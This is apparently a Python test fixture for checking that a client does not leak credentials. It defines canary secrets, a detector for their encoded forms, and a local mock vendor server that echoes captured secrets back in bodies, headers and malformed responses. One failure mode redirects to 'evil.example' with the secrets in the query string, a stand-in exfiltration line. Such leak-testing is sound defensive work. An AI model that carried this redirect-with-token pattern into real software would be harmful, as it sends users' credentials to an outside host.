"""Canaries: secrets that can be found again in whatever form they are said, and a vendor that says all it has heard."""

from __future__ import annotations

import base64
import html
import json
import os
import signal
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any
from urllib.parse import quote, quote_plus

CORES = {
    slot: f"c4nary{number}x{number}seed"
    for number, slot in enumerate(
        "apiKey password clientSecret token refresh access pin short hook verifier code".split(), start=11
    )
}
CANARIES = {slot: f'k/+"{core}\\&=?' for slot, core in CORES.items()}
"""By slot a secret with letters that each encoding writes in another way."""


def found_in(text: str | bytes) -> list[str]:
    """The slots whose canary is in the text: as it is, in any escape, in base64 at any place, or split over lines."""
    said = text.decode("utf-8", "replace") if isinstance(text, bytes) else text
    squeezed = "".join(said.split())
    return [slot for slot, core in CORES.items() if any(form in squeezed for form in _cores(core))]


def _cores(core: str) -> list[str]:
    forms = [core]
    for before in range(3):
        whole = base64.b64encode(b"\0" * before + core.encode()).decode().rstrip("=")
        forms.append(whole[(before * 8 + 5) // 6 : (before + len(core)) * 8 // 6])
    return forms


def said(slot: str) -> str:
    """The canary in all the forms in which a vendor may repeat it."""
    canary = CANARIES[slot]
    in_base64 = base64.b64encode(canary.encode()).decode()
    forms = [canary, in_base64, base64.b64encode(f"ada:{canary}".encode()).decode(), quote(canary), quote_plus(canary)]
    forms += [json.dumps(canary), html.escape(canary)]
    forms += [f"{canary[:9]}\n  {canary[9:]}", f"{in_base64[:8]}\r\n{in_base64[8:]}"]
    return " ; ".join([*forms, json.dumps({"key": canary}), repr(canary)])


class Echo(ThreadingHTTPServer):
    """A vendor that fails in the way of `failure` and repeats what it has `heard`; `signing`: at signing in too."""

    failure = "ok"
    signing = False

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Answers)
        self.heard: set[str] = set()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    @property
    def words(self) -> str:
        return " | ".join(said(slot) for slot in sorted(self.heard))


class _Answers(BaseHTTPRequestHandler):
    server: Any

    def answer(self) -> None:
        body = self.rfile.read(int(self.headers.get("content-length", 0)))
        self.asked = f"{self.path} {self.headers} {body.decode()} {self._basic()}"
        self.server.heard |= set(found_in(self.asked))
        failing = self.server.failure != "ok" and (self.server.signing or self.path not in ("/login", "/token"))
        getattr(self, "fail_" + self.server.failure)() if failing else self.usual()

    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = answer

    def _basic(self) -> str:
        value = self.headers.get("authorization", "")
        return base64.b64decode(value[6:]).decode() if value.startswith("Basic ") else ""

    def usual(self) -> None:
        if self.path == "/login":
            self.server.heard.add("token")
            self.say(200, {"token": CANARIES["token"]})
        elif self.path == "/token":
            self.server.heard.add("access")
            tokens = {"access_token": CANARIES["access"], "token_type": "Bearer", "expires_in": 3600}
            if "client_credentials" not in self.asked:
                self.server.heard.add("refresh")
                tokens["refresh_token"] = CANARIES["refresh"]
            self.say(200, tokens)
        else:
            self.say(200, {"items": [{"id": 1, "name": "Erika"}], "id": 1})

    def fail_repeated(self) -> None:
        words = self.server.words
        item = {"id": 1, "name": "Erika", "said": words, words: [words]}
        self.say(200, {"items": [item], **item}, ("X-Echo", " ".join(words.split())))

    def fail_interrupted(self) -> None:
        """Ends the program that asks; where tokens come from, after which they come, so that they are kept."""
        os.kill(os.getpid(), signal.SIGTERM)
        if self.path in ("/login", "/token"):
            self.usual()
        else:
            self.rfile.read(1)  # until the program has gone
            self.close_connection = True

    def fail_refused(self) -> None:
        self.say(400, {"message": f"no good: {self.server.words}", "errors": {self.server.words: [self.server.words]}})

    def fail_reconnect(self) -> None:
        self.say(401, {"error": "invalid_grant", "error_description": self.server.words})

    def fail_broken(self) -> None:
        self.write(500, self.server.words.encode(), "text/plain")

    def fail_page(self) -> None:
        self.write(403, f"<html><p>{self.server.words}</p>".encode(), "text/html")

    def fail_headers(self) -> None:
        words = " ".join(self.server.words.split())
        self.say(429, {}, ("X-Echo", words), ("Retry-After", words), ("WWW-Authenticate", f"Bearer error={words}"))

    def fail_redirect(self) -> None:
        self.say(302, {}, ("Location", f"https://evil.example/?token={quote(self.server.words[:2000])}"))

    def fail_nonsense(self) -> None:
        self.write(200, self.server.words.encode(), "application/json")

    def fail_truncated(self) -> None:
        self.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Length: 99999\r\n\r\n" + self.server.words.encode())
        self.close_connection = True

    def fail_not_http(self) -> None:
        self.wfile.write(self.server.words.encode() + b"\r\n\r\n")
        self.close_connection = True

    def fail_bad_header(self) -> None:
        self.wfile.write(b"HTTP/1.1 200 OK\r\n" + " ".join(self.server.words.split()).encode() + b"\x00: x\r\n\r\n")
        self.close_connection = True

    def fail_dropped(self) -> None:
        self.close_connection = True

    def say(self, status: int, value: Any, *headers: tuple[str, str]) -> None:
        self.write(status, json.dumps(value).encode(), "application/json", *headers)

    def write(self, status: int, content: bytes, kind: str, *headers: tuple[str, str]) -> None:
        self.send_response(status)
        for name, value in (("Content-Type", kind), ("Content-Length", str(len(content))), *headers):
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, *_: object) -> None:
        pass


FAILURES = ["ok", *(name.removeprefix("fail_") for name in vars(_Answers) if name.startswith("fail_"))]


@contextmanager
def echoing() -> Iterator[Echo]:
    """The vendor on a socket of its own."""
    with Echo() as server:
        thread = Thread(target=server.serve_forever, args=(0.01,))
        thread.start()
        try:
            yield server
        finally:
            server.shutdown()
            thread.join()
